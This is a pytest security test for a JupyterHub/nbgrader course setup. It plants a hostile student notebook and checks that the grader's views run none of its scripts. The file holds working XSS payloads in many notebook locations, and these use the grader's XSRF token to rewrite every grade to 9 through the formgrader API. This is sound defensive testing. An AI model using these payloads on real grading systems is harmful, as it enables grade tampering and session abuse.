"""Student content runs no script for graders: cara's submission of "xss1" in math2 carries
scripts in every place a notebook can hold them (an HTML output, a JavaScript output, inline
SVG, Markdown, a cell attachment, a raw cell, event handlers (also on a second <body> or
<html>, which an HTML parser would merge into the page's own), javascript: links, srcdoc
frames, <object>, <base>, <meta refresh>, <form>, a submitted HTML file). Each, if it ran,
would mark the page (window.top.hubctlXss), call a watcher on this machine, and try to set
every grade of the submission to 9 through the formgrader's API with the grader's session.

The instructor "ta" opens the submission in the formgrader and the notebook in the course's
JupyterLab, and views the notebook and its feedback as files, in headless Chromium. Nothing
may run; the formgrader must still work: its page shows the notebook and a manual score and
comment saved through it persist. The assignment is set up on the VM with nbgrader's own
commands (as grader-math2 and as cara), as test_9_disk_full does."""

import base64
import html
import json
import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import nbgrader_vm
import pytest
from browser import launch_browser, log_in, new_person
from conftest import TA_PASSWORD
from playwright.sync_api import expect, sync_playwright

STUDENT, INSTRUCTOR, COURSE, ASSIGNMENT = "cara", "ta", "math2", "xss1"
COURSE_DIR = f"/srv/nbgrader/courses/{COURSE}"
NBGRADER = "/opt/hubctl/user/bin/nbgrader"
PYTHON = "/opt/hubctl/user/bin/python"
SETTLE_MS = 2_000  # time for anything delayed (onload, refresh, frames) to have happened


def cell(kind: str, source: str, grade_id: str | None = None, **extra) -> dict:
    metadata = {}
    if grade_id:
        manual = kind == "markdown"
        metadata["nbgrader"] = {
            "grade": manual, "solution": True, "locked": False, "task": False,
            "grade_id": grade_id, "schema_version": 3, **({"points": 1} if manual else {}),
        }  # fmt: skip
    data = {"cell_type": kind, "metadata": metadata, "source": source, **extra}
    if kind == "code":
        data.update(execution_count=None, outputs=[])
    return data


SOURCE = {
    "cells": [
        cell("code", "### BEGIN SOLUTION\nx = 1\n### END SOLUTION", "answer"),
        cell("markdown", "YOUR ANSWER HERE", "essay"),
    ],
    "metadata": {
        "kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"}
    },
    "nbformat": 4,
    "nbformat_minor": 5,
}  # fmt: skip


def payload(name: str, watch: str) -> str:
    """JavaScript that marks the top page, calls the watcher and sets every grade to 9."""
    return (
        (
            "(function(){var w=window.top;(w.hubctlXss=w.hubctlXss||[]).push('NAME');"
            "fetch('WATCH/hit/NAME',{mode:'no-cors'}).catch(function(){});"
            "var x=decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/)||['',''])[1]);"
            "fetch(base_url+'/api/grades?submission_id='+submission_id).then(function(r){return r.json()})"
            ".then(function(gs){gs.forEach(function(g){g.manual_score=9;g.extra_credit=9;"
            "fetch(base_url+'/api/grade/'+g.id,{method:'PUT',headers:{'X-XSRFToken':x},"
            "body:JSON.stringify(g)})})})})()"
        )
        .replace("NAME", name)
        .replace("WATCH", watch)
    )


def svg(name: str, watch: str) -> str:
    js = payload(name, watch)
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{js}">'
            f"<script>{js}</script><rect width='20' height='20'/></svg>")  # fmt: skip


def attacks_html(where: str, watch: str) -> str:
    """HTML that would run a payload named WHERE-KIND for each kind of attack."""
    p = lambda kind: payload(f"{where}-{kind}", watch)  # noqa: E731
    in_attribute = lambda kind: html.escape(f"<script>{p(kind)}</script>")  # noqa: E731
    return "\n".join([
        f"<script>{p('script')}</script>",
        f'<img src="x-missing.png" onerror="{p("img-onerror")}">',
        svg(f"{where}-svg", watch),
        f'<a id="{where}-jslink" href="javascript:{p("javascript-link")}">link</a>',
        f'<iframe srcdoc="{in_attribute("srcdoc")}"></iframe>',
        f'<object data="data:text/html,{in_attribute("object")}"></object>',
        f'<details open ontoggle="{p("ontoggle")}"><summary>s</summary></details>',
        f'<body onload="{p("body-onload")}"><html onmouseover="{p("html-onmouseover")}">',
        f'<form id="{where}-form" action="{watch}/hit/{where}-form"><button>go</button></form>',
        f'<base href="{watch}/hit/{where}-base/"><img src="after-base.png">',
        f'<meta http-equiv="refresh" content="1;url={watch}/hit/{where}-meta-refresh">',
    ])  # fmt: skip


def student_notebook(fetched: dict, watch: str) -> dict:
    code = (
        "from IPython.display import HTML, SVG, Javascript, display\n"
        f"display(HTML({attacks_html('output', watch)!r}))\n"
        f"display(SVG({svg('svg-output', watch)!r}))\n"
        f"display(Javascript({payload('js-output', watch)!r}))\n"
        "x = 1"
    )
    fetched["cells"][0]["source"] = code
    fetched["cells"][1]["source"] = (
        "The essay-visible-marker answer.\n\n" + attacks_html("markdown", watch)
        + "\n\n![pic](attachment:evil.svg)\n\n[md link](javascript:" + payload("md-link", watch) + ")\n"
    )  # fmt: skip
    fetched["cells"][1]["attachments"] = {
        "evil.svg": {"image/svg+xml": base64.b64encode(svg("attachment", watch).encode()).decode()}
    }
    fetched["cells"].append(
        cell("raw", attacks_html("raw", watch), metadata={"format": "text/html"})
    )  # fmt: skip
    return fetched


class Watcher(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 - http.server's name
        Watcher.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def watch():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Watcher)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


def as_grader(guest, *args: str, input: str | None = None):  # noqa: A002
    return nbgrader_vm.as_grader(guest, COURSE, *args, input=input)


def as_student(guest, *args: str, input: str | None = None):  # noqa: A002
    return nbgrader_vm.as_student(guest, STUDENT, *args, input=input)


GRADES = f"""
import json
from nbgrader.api import Gradebook
with Gradebook("sqlite:///gradebook.db") as gb:
    nb = gb.find_submission_notebook("{ASSIGNMENT}", "{ASSIGNMENT}", "{STUDENT}")
    print(json.dumps({{"id": nb.id,
        "grades": {{g.name: [g.manual_score, g.extra_credit] for g in nb.grades}},
        "comments": {{c.name: c.manual_comment for c in nb.comments}}}}))
"""


def gradebook(guest) -> dict:
    return json.loads(as_grader(guest, PYTHON, "-c", GRADES).stdout)


@pytest.fixture(scope="module")
def submission(guest, installed, watch) -> dict:
    """cara's hostile submission, collected and autograded; its gradebook entry."""
    as_grader(guest, "mkdir", "-p", f"source/{ASSIGNMENT}")
    as_grader(guest, "sh", "-c", f"cat > source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb",
              input=json.dumps(SOURCE))  # fmt: skip
    as_grader(guest, NBGRADER, "generate_assignment", ASSIGNMENT, "--force")
    as_grader(guest, NBGRADER, "release_assignment", ASSIGNMENT, "--force")
    as_student(guest, NBGRADER, "fetch_assignment", ASSIGNMENT, "--course", COURSE)
    path = f"{ASSIGNMENT}/{ASSIGNMENT}.ipynb"
    fetched = json.loads(as_student(guest, "cat", path).stdout)
    as_student(guest, "sh", "-c", f"cat > {path}",
               input=json.dumps(student_notebook(fetched, watch)))  # fmt: skip
    as_student(guest, "sh", "-c", f"cat > {ASSIGNMENT}/evil.html",
               input=f"<script>{payload('submitted-file', watch)}</script>")  # fmt: skip
    as_student(guest, NBGRADER, "submit", ASSIGNMENT, "--course", COURSE)
    as_grader(guest, NBGRADER, "collect", ASSIGNMENT)
    as_grader(guest, NBGRADER, "autograde", ASSIGNMENT, "--student", STUDENT)
    as_grader(guest, NBGRADER, "generate_feedback", ASSIGNMENT, "--student", STUDENT)
    return gradebook(guest)


@pytest.fixture(scope="module")
def ta_page(hub_url, installed):
    with sync_playwright() as playwright:
        browser = launch_browser(playwright)
        context, page = new_person(browser)
        page.console_messages = []
        page.on("console", lambda message: page.console_messages.append(message.text))
        log_in(page, hub_url.rstrip("/"), INSTRUCTOR, TA_PASSWORD)
        yield page
        browser.close()


@pytest.fixture
def service(hub_url) -> str:
    return f"{hub_url.rstrip('/')}/services/{COURSE}"


def nothing_ran(page) -> None:
    page.wait_for_timeout(SETTLE_MS)
    assert page.evaluate("window.top.hubctlXss || []") == []
    hits, Watcher.hits[:] = list(Watcher.hits), []
    assert hits == []


def test_the_submission_page_runs_none_of_the_student_s_scripts(ta_page, service, submission):
    page = ta_page
    response = page.goto(f"{service}/formgrader/submissions/{submission['id']}/")
    assert response.status == 200
    policy = response.headers["content-security-policy"]
    assert "'unsafe-inline'" not in policy and "form-action 'none'" in policy
    page.get_by_text("The essay-visible-marker answer.").wait_for()
    page.locator("#essay").wait_for()
    page.locator("#output-jslink").click()
    page.locator("#markdown-form button").click(no_wait_after=True)
    nothing_ran(page)
    assert page.url.startswith(f"{service}/formgrader/submissions/{submission['id']}/")
    violations = [text for text in page.console_messages if "Content Security Policy" in text]
    assert violations, "the student's scripts were on the page and the browser refused them"


def test_the_grades_are_unchanged_by_the_student(guest, submission):
    assert gradebook(guest)["grades"] == submission["grades"]
    assert all(extra in (None, 0) for _, extra in submission["grades"].values())


def test_manual_grading_still_saves_a_score_and_a_comment(guest, ta_page, service, submission):
    page = ta_page
    page.goto(f"{service}/formgrader/submissions/{submission['id']}/")
    page.wait_for_load_state("networkidle")  # formgrade.js has loaded the grades and comments
    for field, value, api in (
        ("#essay", "0.5", "/api/grade/"),
        ("#essay-comment", "Seen by the grader; nothing ran.", "/api/comment/"),
    ):
        with page.expect_response(
            lambda r, api=api: api in r.url and r.request.method == "PUT"
        ) as saved:
            page.locator(field).fill(value)
            page.locator(field).press("Tab")  # formgrade.js saves on "change"
        assert saved.value.status == 200
    page.reload()
    page.get_by_text("The essay-visible-marker answer.").wait_for()
    expect(page.locator("#essay")).to_have_value("0.5")
    saved = gradebook(guest)
    assert saved["grades"]["essay"][0] == 0.5
    assert saved["comments"]["essay"] == "Seen by the grader; nothing ran."
    nothing_ran(page)


def test_a_file_of_the_submission_is_served_sandboxed(ta_page, service, submission):
    response = ta_page.goto(f"{service}/formgrader/submissions/{submission['id']}/evil.html")
    assert response.status == 200
    assert "sandbox" in response.headers["content-security-policy"].split("; ")
    nothing_ran(ta_page)


@pytest.mark.parametrize(
    "path",
    [
        f"files/feedback/{STUDENT}/{ASSIGNMENT}/{ASSIGNMENT}.html",
        f"nbconvert/html/autograded/{STUDENT}/{ASSIGNMENT}/{ASSIGNMENT}.ipynb?download=false",
        f"files/autograded/{STUDENT}/{ASSIGNMENT}/evil.html",
    ],
)
def test_the_student_s_work_viewed_as_a_page_runs_no_script(ta_page, service, submission, path):
    response = ta_page.goto(f"{service}/{path}")
    assert response.status == 200
    assert "sandbox" in response.headers["content-security-policy"].split("; ")
    nothing_ran(ta_page)


def test_the_course_s_jupyterlab_shows_the_notebook_untrusted(ta_page, service, submission):
    page = ta_page
    page.goto(f"{service}/lab/tree/autograded/{STUDENT}/{ASSIGNMENT}/{ASSIGNMENT}.ipynb")
    page.locator(".jp-RenderedMarkdown", has_text="essay-visible-marker").wait_for(timeout=120_000)
    page.locator(".jp-OutputArea-output").first.wait_for()
    nothing_ran(page)


def test_nothing_signed_the_student_s_notebook(ta_page, service, submission):
    """JupyterLab runs a notebook's HTML scripts only when the notebook is trusted: signed by the
    notary of the account that opens it. Nothing in hubctl's flow may have signed it."""
    url = f"{service}/api/contents/autograded/{STUDENT}/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"
    model = ta_page.evaluate("async url => (await fetch(url)).json()", url)
    code_cells = [c for c in model["content"]["cells"] if c["cell_type"] == "code"]
    assert code_cells and all(c["metadata"].get("trusted") is False for c in code_cells)


def test_the_hub_still_answers(hub_url, submission):
    with urllib.request.urlopen(f"{hub_url}/hub/api/", timeout=10) as response:
        assert response.status == 200
